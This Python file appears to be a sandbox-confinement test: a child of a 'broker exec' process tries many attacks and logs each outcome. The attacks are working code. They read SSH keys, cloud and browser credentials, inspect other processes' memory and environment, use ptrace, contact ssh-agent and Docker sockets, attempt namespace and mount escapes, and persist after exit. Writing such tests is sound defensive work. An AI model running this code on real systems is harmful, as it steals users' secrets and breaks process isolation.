"""A child of `broker exec` that wants everything. It knows where all lies; what it gets, it writes down, one attack a line."""
import ctypes, errno, fcntl, glob, json, os, signal, socket, struct, subprocess, sys, time

know = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
ATTACKS = []


def attack(run):
    ATTACKS.append(run)
    return run


def read(path, size=65536):
    with open(path, 'rb') as file:
        return file.read(size)


def call(number, *args):
    result = libc.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), 'refused')
    return result


def tree(path):
    found = []
    for base, _, names in os.walk(path):
        for name in names:
            try:
                found.append(read(os.path.join(base, name)))
            except OSError:
                pass
    return b''.join(found)


def ask(family, address, say=b'GET / HTTP/1.0\r\n\r\n'):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(say)
        return s.recv(4096)


def mark(path, how='a'):
    with open(path, how) as file:
        file.write('\n# ' + know['mark'] + '\n')


def processes():
    return [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]


def ancestors():
    pid = os.getppid()
    for _ in range(2):
        if pid <= 1:
            return
        yield pid
        pid = int(read(f'/proc/{pid}/stat').rsplit(b')', 1)[1].split()[1])


# Files of the human
for name in ['ssh_key', 'aws', 'history', 'forge', 'registry', 'netrc', 'pgpass', 'git_credentials', 'docker', 'kube',
             'browser', 'keyring_file', 'agent_login', 'unknown_name', 'other_project']:
    def files(path=know['files'][name]):
        return read(path)
    files.__name__ = 'read_' + name
    attack(files)


@attack
def read_home_whole():
    return tree(know['home'])


@attack
def read_temporary_whole():
    return tree(know['temporary'])


# Files of the broker
@attack
def read_root_file():
    return read(know['root_file'])


@attack
def read_keyfile():
    return read(os.path.join(know['state'], 'keyfile'))


@attack
def read_state_whole():
    return tree(know['state'])


@attack
def read_admin_profile():
    return read(know['admin_profile'])


@attack
def read_agent_profile():
    return read(know['agent_profile'])


# Ways around a path
@attack
def symbolic_link():
    os.symlink(know['files']['ssh_key'], 'innocent')
    return read('innocent')


@attack
def hard_link():
    os.link(know['files']['ssh_key'], 'twin')
    return read('twin')


@attack
def move_it_here():
    os.rename(know['files']['movable'], 'moved')
    return read('moved')


@attack
def root_of_another_process():
    got = b''
    for pid in processes():
        for way in ['root', 'cwd']:
            try:
                got += read(f'/proc/{pid}/{way}{know["files"]["ssh_key"]}')
            except OSError:
                pass
    return got


@attack
def up_and_out_of_a_directory():
    here = os.open('.', os.O_RDONLY)
    return os.read(os.open('../' * 20 + know['files']['ssh_key'], os.O_RDONLY, dir_fd=here), 4096)


@attack
def open_files_of_other_processes():
    got = b''
    for pid in [*ancestors(), know['victim'], know['prey']]:
        for fd in glob.glob(f'/proc/{pid}/fd/*'):
            try:
                if os.path.isfile(fd):
                    got += read(fd)
            except OSError:
                pass
    return got


@attack
def inherited_descriptor():
    return b''.join(os.pread(fd, 4096, 0) for fd in range(3, 64) if opened(fd))


def opened(fd):
    try:
        os.pread(fd, 1, 0)
        return True
    except OSError:
        return False


# Other processes
@attack
def environment_of_processes():
    got = b''
    for pid in processes():
        try:
            got += read(f'/proc/{pid}/environ')
        except OSError:
            pass
    return got


@attack
def memory_of_a_process():
    pid = know['victim']
    for line in open(f'/proc/{pid}/maps'):
        if '[stack]' in line:
            start, end = (int(x, 16) for x in line.split()[0].split('-'))
            with open(f'/proc/{pid}/mem', 'rb') as memory:
                memory.seek(start)
                return memory.read(end - start)


@attack
def trace_a_process():
    pid = know['victim']
    call(101, 16, pid, 0, 0)  # PTRACE_ATTACH
    os.waitpid(pid, 0x40000000)
    call(101, 17, pid, 0, 0)
    return b'traced ' + read(f'/proc/{pid}/environ')


@attack
def key_in_the_memory_of_exec():
    got = b''
    for pid in ancestors():
        try:
            with open(f'/proc/{pid}/mem', 'rb') as memory:
                for line in open(f'/proc/{pid}/maps'):
                    part = line.split()
                    if 'rw' not in part[1]:
                        continue
                    start, end = (int(x, 16) for x in part[0].split('-'))
                    try:
                        memory.seek(start)
                        chunk = memory.read(min(end - start, 1 << 26))
                    except OSError:
                        continue
                    if know['key'].encode() in chunk:
                        got += know['key'].encode()
        except OSError:
            pass
    return got


@attack
def kill_a_process():
    os.kill(know['prey'], signal.SIGKILL)
    return b''


@attack
def shared_memory():
    segment = call(29, know['shm'], 4096, 0)
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(segment, None, 0)
    return ctypes.string_at(at, 64)


@attack
def shared_memory_file():
    return read(know['shm_file'])


@attack
def keyring_of_the_session():
    key = call(250, 10, -3, b'user', know['keyring'].encode(), 0)
    space = ctypes.create_string_buffer(256)
    size = call(250, 11, key, space, 256)
    return space.raw[:size]


# Sockets
@attack
def ssh_agent():
    return ask(socket.AF_UNIX, know['sockets']['ssh'])


@attack
def docker_daemon():
    return ask(socket.AF_UNIX, know['sockets']['docker'])


@attack
def session_bus_abstract():
    return ask(socket.AF_UNIX, '\0' + know['sockets']['bus'])


@attack
def another_run():
    return tree(know['other_run'])


@attack
def socket_of_another_run():
    return ask(socket.AF_UNIX, know['other_run'] + '/outer.sock', json.dumps({'secret': know['other_secret']}).encode() + b'\n')


@attack
def loopback_service():
    return ask(socket.AF_INET, ('127.0.0.1', know['port']))


@attack
def loopback_service_ipv6():
    return ask(socket.AF_INET6, ('::1', know['port6']))


@attack
def address_of_the_machine():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        try:
            s.connect((know['address'], 9))
        except ConnectionRefusedError:
            pass
        return b'reached ' + know['token'].encode()


@attack
def any_other_network():
    names = [name for _, name in socket.if_nameindex() if name != 'lo']
    return b'found ' + know['token'].encode() if names else b''


@attack
def name_to_loopback():
    return ask(socket.AF_INET, (socket.gethostbyname('localhost'), know['port']))


@attack
def data_by_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(know['mark'].encode(), ('127.0.0.1', know['dns']))
    return b''


@attack
def host_of_the_machine_vsock():
    with socket.socket(40, socket.SOCK_STREAM) as s:
        return b'socket ' + know['token'].encode() if s.fileno() >= 0 else b''


@attack
def raw_packets():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(('lo', 0))
        s.settimeout(3)
        return b'listens ' + know['token'].encode()


# Writing where others will run it
for name, path in know['writes'].items():
    def write(path=path):
        mark(path)
        return b''
    write.__name__ = 'write_' + name
    attack(write)


@attack
def files_of_its_own_run():
    with open(os.environ['PGPASSFILE'], 'r+'):
        return b'open ' + know['token'].encode()


@attack
def directory_of_its_own_run():
    own = os.path.dirname(os.environ['PGPASSFILE'])
    os.rename(own + '/pgpass', own + '/pgpass.mine')
    os.rename(own + '/pgpass.mine', own + '/pgpass')
    return b'renamed ' + know['token'].encode()


@attack
def workspace_made_a_link():
    os.rename(know['workspace'], know['workspace'] + '.old')
    os.rename(know['workspace'] + '.old', know['workspace'])
    return b'renamed ' + know['token'].encode()


@attack
def settings_of_the_kernel():
    with open('/proc/sys/kernel/core_pattern', 'r+'):
        return b'open ' + know['token'].encode()


@attack
def log_of_the_kernel():
    os.close(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK))
    return b'open ' + know['token'].encode()


# Rights and namespaces
@attack
def mount_over():
    os.makedirs('mnt', exist_ok=True)
    if libc.mount(b'none', b'mnt', b'tmpfs', 0, None) < 0:
        raise OSError(ctypes.get_errno(), 'refused')
    libc.umount(b'mnt')
    return b'mounted ' + know['token'].encode()


@attack
def uncover_what_is_hidden():
    for path in [know['home'], '/tmp', '/etc/shadow']:
        libc.umount2(path.encode(), 2) if know['confined'] else None
    return tree(know['home'] + '/.ssh')


@attack
def namespace_of_its_own():
    libc.unshare.argtypes = [ctypes.c_int]
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(0x10000000 | 0x00020000) == 0 else 1)  # NEWUSER, NEWNS
    return b'made ' + know['token'].encode() if os.waitpid(child, 0)[1] == 0 else b''


@attack
def namespaces_of_the_first_process():
    child = os.fork()
    if child == 0:
        try:
            fd = os.open('/proc/1/ns/mnt', os.O_RDONLY)
            inner = os.readlink('/proc/self/ns/mnt') == os.readlink('/proc/1/ns/mnt')
            ok = libc.setns(fd, 0) == 0 and (not inner or not know['confined'])
            os._exit(0 if ok else 1)
        except OSError:
            os._exit(1)
    return b'entered ' + know['token'].encode() if os.waitpid(child, 0)[1] == 0 else b''


@attack
def disk_itself():
    for major, minor in know['disks']:
        try:
            os.mknod('disk', 0o600 | 0o060000, os.makedev(major, minor))
            os.close(os.open('disk', os.O_RDONLY))
            return b'open ' + know['token'].encode()
        finally:
            if os.path.exists('disk'):
                os.unlink('disk')


@attack
def another_user():
    child = os.fork()
    if child == 0:
        try:
            os.setgid(65534)
            os.setuid(65534)
            os._exit(0)
        except OSError:
            os._exit(1)
    return b'became ' + know['token'].encode() if os.waitpid(child, 0)[1] == 0 else b''


@attack
def setuid_program():
    out = subprocess.run(['/bin/sh', '-c', 'grep NoNewPrivs /proc/self/status'], capture_output=True, timeout=5).stdout
    return b'gains ' + know['token'].encode() if b'\t0' in out else b''


@attack
def programs_of_the_kernel():
    space = ctypes.create_string_buffer(128)
    space[0] = b'\x02'
    struct.pack_into('<IIII', space, 0, 2, 4, 4, 1)
    os.close(call(321, 0, space, 72))
    return b'made ' + know['token'].encode()


@attack
def io_uring():
    space = ctypes.create_string_buffer(256)
    os.close(call(425, 4, space))
    return b'made ' + know['token'].encode()


@attack
def stay_after_the_end():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in [signal.SIGTERM, signal.SIGHUP, signal.SIGINT]:
                signal.signal(number, signal.SIG_IGN)
            os.chdir('/')
            os.closerange(0, 1024)
            os.execv('/bin/sleep', ['sleep', know['nap']])
        os._exit(0)
    return b''


results = {}
for run in ATTACKS:
    if know.get('only') and run.__name__ not in know['only']:
        continue
    began = time.monotonic()
    try:
        got = run() or b''
        results[run.__name__] = {'got': got.decode('latin1'), 'why': ''}
    except BaseException as error:
        results[run.__name__] = {'got': '', 'why': f'{type(error).__name__}: {error}'}
    if time.monotonic() - began > 1:
        sys.stderr.write(f'{run.__name__} took {time.monotonic() - began:.0f} s\n')
json.dump(results, open(know['loot'], 'w'))
